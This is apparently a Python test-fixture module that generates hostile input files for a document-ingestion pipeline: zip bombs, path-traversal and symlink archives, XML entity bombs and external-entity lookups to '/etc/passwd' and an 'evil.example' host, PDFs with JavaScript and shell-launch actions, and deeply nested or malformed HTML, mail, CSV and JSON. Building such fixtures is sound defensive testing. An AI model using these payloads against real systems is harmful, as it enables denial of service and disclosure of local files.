"""Files that are hostile as files: bombs, broken and endless structures, encodings that lie; a hundred of them, by kind."""
# ruff: noqa: E501 - hostile inputs are long

from __future__ import annotations

import base64
import io
import json
import random
import stat
import warnings
import zipfile
import zlib
from collections.abc import Iterator

from .payloads import body

PROSE = f"Germany promises troops\n\nAugust 20, 2025\n\n{body('again', 1)}\n".encode()
NOISE = random.Random(4).randbytes
File = tuple[str, str, bytes]


def packed(*members: tuple[str | zipfile.ZipInfo, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive, warnings.catch_warnings(action="ignore"):  # of names that stand twice
        for name, content in members:
            archive.writestr(name, content, compression)
    return out.getvalue()


def linked(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    made = zipfile.ZipInfo(name)
    made.external_attr = (stat.S_IFLNK | 0o777) << 16
    return made, target.encode()


def encodings() -> Iterator[File]:
    kind = "lone surrogates"
    yield kind, "half.jsonl", b'{"title": "a \\ud800 b", "text": "' + PROSE.decode().replace("\n", "\\n").replace('"', "").encode() + b' \\udfff"}\n'
    yield kind, "cesu.txt", PROSE + b"\xed\xa0\xbd\xed\xb8\x80\n"
    yield kind, "half16.txt", b"\xff\xfe" + PROSE.decode().encode("utf-16-le") + b"\x00\xd8x\x00"
    kind = "invalid encodings"
    for name, tail in {"cut": b"\xe2\x80", "overlong": b"\xc0\xaf" * 20, "high": b"\xf5\xff\xfe" * 9, "latin": "Größe".encode("latin-1"), "lone": b"\x80" * 30}.items():
        yield kind, f"{name}.txt", PROSE + tail
    yield kind, "odd16.txt", b"\xff\xfe" + PROSE.decode().encode("utf-16-le") + b"\x41"
    yield kind, "big16.txt", PROSE.decode().encode("utf-16-be")
    yield kind, "liar32.txt", b"\xff\xfe\x00\x00" + PROSE
    yield kind, "utf7.html", b'<html><head><meta charset="utf-7"></head><body>+ADw-script+AD4-alert(1)+ADw-/script+AD4-<p>' + PROSE + b"</p></body></html>"
    yield kind, "unknown.html", b'<html><head><meta charset="rot13"></head><body><article><p>' + PROSE + b"</p></article></body></html>"
    kind = "NUL bytes"
    for number, content in enumerate((b"\0" + PROSE, PROSE.replace(b" ", b"\0"), PROSE + b"\0" * 9000, b"\0" * 5000, PROSE[:100] + b"\0" + PROSE[100:])):
        for suffix in ("txt", "html", "jsonl")[: 1 + number % 3]:
            yield kind, f"nul{number}.{suffix}", content


def lengths() -> Iterator[File]:
    kind = "gigantic and endless lines"
    yield kind, "word.txt", b"x" * 1_900_000
    yield kind, "line.txt", (b"Germany will send troops to Ukraine, he said " * 3_000) + b"\n"
    yield kind, "short.txt", b"a\n" * 900_000
    yield kind, "million.txt", b"a\n" * 1_000_000 + b"b"
    yield kind, "blank.txt", b"\n" * 1_500_000 + PROSE
    yield kind, "large.txt", b"word " * 4_100_000
    yield kind, "quotes.txt", PROSE + ("“" * 20_000).encode()
    yield kind, "brackets.txt", PROSE + b"(" * 20_000 + b"[" * 20_000
    yield kind, "dates.txt", b"August 20, 2025 at 10:25 AM\n\n" * 4_000 + PROSE
    yield kind, "commas.txt", b"Germany, France, " * 3_000 + b"will send troops.\n"
    yield kind, "dashes.txt", b"---\n" * 30_000 + PROSE


def archives() -> Iterator[File]:
    kind = "archives that grow"
    zeros = b"\0" * 21_000_000
    yield kind, "bomb.zip", packed(("zeros.txt", zeros))
    yield kind, "bombs.zip", packed(*((f"{number}.txt", b"a" * 19_000_000) for number in range(6)))
    yield kind, "many.zip", packed(*((f"{number}.txt", b"a") for number in range(2_100)))
    yield kind, "bzip.zip", packed(("zeros.txt", zeros), compression=zipfile.ZIP_BZIP2)
    yield kind, "lzma.zip", packed(("zeros.txt", zeros), compression=zipfile.ZIP_LZMA)
    yield kind, "liar.zip", packed(("a.txt", PROSE * 20)).replace((len(PROSE) * 20).to_bytes(4, "little"), (9).to_bytes(4, "little"))
    yield kind, "cut.zip", packed(("a.txt", PROSE * 50))[:200]
    yield kind, "crc.zip", packed(("a.txt", PROSE), compression=zipfile.ZIP_STORED).replace(b"Germany", b"Germanz")
    kind = "archives that lead out"
    for number, name in enumerate((
        "../out.txt", "../../../../tmp/out.txt", "/etc/out.txt", "C:\\out.txt", "..\\..\\out.txt", "a/../../out.txt", "\\\\server\\share\\out.txt", "a\x00b.txt", "a\nb.txt",
        "\x1b[2J.txt", "./../out.txt", "con.txt", "a" * 300 + ".txt", "~/out.txt", "-rf.txt", "‮txt.exe.txt",
    )):  # fmt: skip
        yield kind, f"slip{number:02d}.zip", packed((name, PROSE))
    yield kind, "link.zip", packed(linked("link.txt", "/etc/passwd"))
    yield kind, "through.zip", packed(linked("link", "/etc"), ("link/out.txt", PROSE))
    yield kind, "twice.zip", packed(("a.txt", PROSE), ("a.txt", PROSE.replace(b"Germany", b"France")))
    kind = "archives in archives"
    content = PROSE
    for depth in range(6):
        content = packed((f"{depth}.zip" if depth else "a.txt", content))
        yield kind, f"nested{depth}.zip", content
    wide = packed(*((f"{number}.txt", b"b" * 9_000_000) for number in range(5)))
    yield kind, "fork.zip", packed(*((f"{number}.zip", wide) for number in range(12)))


def xml() -> Iterator[File]:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE r [<!ENTITY l0 "ha">{levels}]>'
    outer = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://evil.example/x">]>'
    hidden = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
    text = PROSE.decode().replace("\n\n", " ")
    for name, head, word in (("laughs", bomb, "&l9;"), ("outer", outer, "&x;&y;"), ("hidden", hidden, "")):
        feed = f'<?xml version="1.0"?>{head}<rss version="2.0"><channel><title>t</title><item><title>{word} a</title><description>{text} {word}</description></item></channel></rss>'
        yield "entities in feeds", f"{name}.rss", feed.encode()
        yield "entities in feeds", f"{name}16.xml", feed.replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")
        atom = f'<?xml version="1.0"?>{"<!-- -->" * 2_000}{head}<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>{word}</title><content>{text}</content></entry></feed>'
        yield "entities in feeds", f"{name}.atom", atom.encode()
        paragraph = f'<?xml version="1.0"?>{head}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{word} {text}</w:t></w:r></w:p></w:body></w:document>'
        yield "entities in Word files", f"{name}.docx", word_file(paragraph)
    yield "entities in Word files", "zeros.docx", word_file(" " * 50_000_000)
    yield "entities in Word files", "deep.docx", word_file("<w:p>" * 100_000)
    yield "entities in Word files", "bare.docx", packed(("a.txt", PROSE))
    kind = "feeds without end"
    item = "<item><title>A tram</title><description>The council voted on Monday to build it.</description></item>"
    yield kind, "entries.rss", f"<rss version='2.0'><channel>{item * 5_100}</channel></rss>".encode()
    yield kind, "deep.rss", b"<rss><channel>" + b"<item>" * 50_000
    yield kind, "open.atom", b"<feed><entry><title>" + b"<b>" * 50_000 + PROSE
    yield kind, "attributes.rss", b"<rss " + b" ".join(b'a%d="x"' % number for number in range(8_000)) + b"></rss>"


def word_file(document: str) -> bytes:
    """The smallest package that python-docx opens, with this main part."""
    types = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
             'relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    links = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
             'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
    return packed(("[Content_Types].xml", types.encode()), ("_rels/.rels", links.encode()), ("word/document.xml", document.encode()))


def pdfs() -> Iterator[File]:
    kind = "broken and looping PDFs"
    good = pdf(b"BT /F1 12 Tf 72 720 Td (Germany will send troops to Ukraine, he said.) Tj ET")
    yield kind, "good.pdf", good
    yield kind, "cut.pdf", good[: len(good) // 2]
    yield kind, "noise.pdf", b"%PDF-1.7\n" + NOISE(20_000)
    yield kind, "loop.pdf", good.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")
    yield kind, "parent.pdf", good.replace(b"/Contents 4 0 R", b"/Contents 3 0 R")
    yield kind, "count.pdf", good.replace(b"/Count 1", b"/Count 99999999999")
    yield kind, "pages.pdf", good.replace(b"[3 0 R]", b"[" + b"3 0 R " * 60_000 + b"]")
    yield kind, "script.pdf", good.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    yield kind, "launch.pdf", good.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Launch /F (/bin/sh) >>")
    yield kind, "prev.pdf", good.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 9")
    yield kind, "big.pdf", pdf(zlib.compress(b"BT (a) Tj ET " * 8_000_000, 9), b"/Filter /FlateDecode")
    yield kind, "twice.pdf", pdf(zlib.compress(zlib.compress(b"\0" * 400_000_000, 9), 9), b"/Filter [/FlateDecode /FlateDecode]")
    yield kind, "filters.pdf", pdf(b"x", b"/Filter [" + b"/ASCIIHexDecode " * 5_000 + b"]")
    yield kind, "nested.pdf", pdf(b"[" * 200_000)
    yield kind, "locked.pdf", locked()


def pdf(stream: bytes, extra: bytes = b"") -> bytes:
    """One page with this stream as its contents."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(stream), extra, stream), b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]  # fmt: skip
    out, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 6\n0000000000 65535 f \n" + rows + b"trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(out)


def locked() -> bytes:
    from pypdf import PdfWriter

    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def pages() -> Iterator[File]:
    kind = "deep and broken HTML"
    wrapped = b"<p>" + PROSE + b"</p>"
    yield kind, "divs.html", b"<div>" * 200_000 + wrapped
    yield kind, "tables.html", b"<table><tr><td>" * 20_000 + wrapped
    yield kind, "fonts.html", b"<b><i><font>" * 20_000 + wrapped
    yield kind, "attributes.html", b"<p " + b"a=b " * 200_000 + b">" + wrapped
    yield kind, "open.html", b"<html><body><article><p>" + PROSE + b"<!-- <![CDATA[ <"
    yield kind, "lists.html", b"<ul><li>" * 30_000 + wrapped
    yield kind, "entities.html", b"<p>" + b"&#x1b;&#0;&#1114112;&lt;" * 20_000 + wrapped
    yield kind, "data.html", b'<img src="data:image/png;base64,' + b"A" * 5_000_000 + b'">' + wrapped
    yield kind, "json.html", b'<script type="application/ld+json">' + b"[" * 100_000 + b"</script>" + wrapped


def mails() -> Iterator[File]:
    kind = "mails in odd dress"
    head = b"From: a@b.example\nSubject: Germany promises\nMIME-Version: 1.0\n"
    yield kind, "charset.eml", head + b"Content-Type: text/plain; charset=x-evil\n\n" + PROSE
    yield kind, "base64.eml", head + b"Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n" + base64.b64encode(PROSE)[:-7] + b"!!!\n"
    yield kind, "quoted.eml", head + b"Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n" + PROSE + b"=ZZ=\n=1B[2J\n"
    yield kind, "uu.eml", head + b"Content-Transfer-Encoding: x-uuencode\n\nbegin 644 /etc/passwd\n#86)C\nend\n"
    nested = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(1_500))
    yield kind, "nested.eml", head + nested + b"Content-Type: text/plain\n\n" + PROSE
    yield kind, "rfc822.eml", head + b"Content-Type: message/rfc822\n\n" * 1_500 + PROSE
    yield kind, "boundary.eml", head + b'Content-Type: multipart/mixed; boundary=""\n\n--\n\n' + PROSE
    yield kind, "headers.eml", b"".join(b"X-%d: y\n" % n for n in range(50_000)) + head + b"\n" + PROSE
    yield kind, "long.eml", b"Subject: " + b"=?utf-8?B?" + b"QUFB" * 100_000 + b"?=\n\n" + PROSE
    yield kind, "addresses.eml", b"From: " + b"(" * 3_000 + b"a@b\nSubject: x\n\n" + PROSE
    yield kind, "attached.eml", head + b'Content-Type: text/plain; name="../../out.txt"\nContent-Disposition: attachment; filename="/etc/out"\n\n' + PROSE


def tables() -> Iterator[File]:
    kind = "tables out of bounds"
    yield kind, "columns.csv", b"text" + b",x" * 1_000_000 + b"\nhello" + b",y" * 1_000_000 + b"\n"
    yield kind, "quote.csv", b'title,text\na,"' + PROSE * 300
    yield kind, "rows.csv", b"text\n" + b"The council voted on Monday.\n" * 5_200
    yield kind, "field.csv", b"text\n" + b"x" * 2_100_000 + b"\n"
    yield kind, "twice.csv", b"text,text,title,title\nThe council voted.,The council did not vote.,a,b\n"
    yield kind, "ragged.csv", b"title,text\n" + b"".join(b"," * n + b"\n" for n in range(300))
    yield kind, "delimiters.csv", b";;;;,,,,\t\t\t\ttext\n" + PROSE
    kind = "JSON out of bounds"
    text = json.dumps(PROSE.decode()).encode()
    yield kind, "deep.jsonl", b'{"text":' + b"[" * 200_000 + b"\n"
    yield kind, "objects.jsonl", b'{"a":' * 50_000 + b"1" + b"}" * 50_000
    yield kind, "nan.jsonl", b'{"title": NaN, "date": Infinity, "outlet": -Infinity, "text": ' + text + b"}\n"
    yield kind, "huge.jsonl", b'{"title": 1' + b"0" * 10_000 + b', "date": 1e999999, "text": ' + text + b"}\n"
    yield kind, "types.jsonl", b'{"title": [1], "date": {"a": 1}, "outlet": null, "author": true, "text": ' + text + b"}\n"
    yield kind, "twice.jsonl", b'{"text": "a", "text": ' + text + b', "TEXT": 1}\n'
    yield kind, "years.jsonl", b"".join(b'{"date": "%b", "text": %b}\n' % (day, text) for day in (b"99999-01-01", b"0000-00-00", b"-1", b"9" * 400, b"2025-02-30"))


def contained() -> list[File]:
    """Kind, file name and bytes of every hostile file."""
    return [file for make in (encodings, lengths, archives, xml, pdfs, pages, mails, tables) for file in make()]
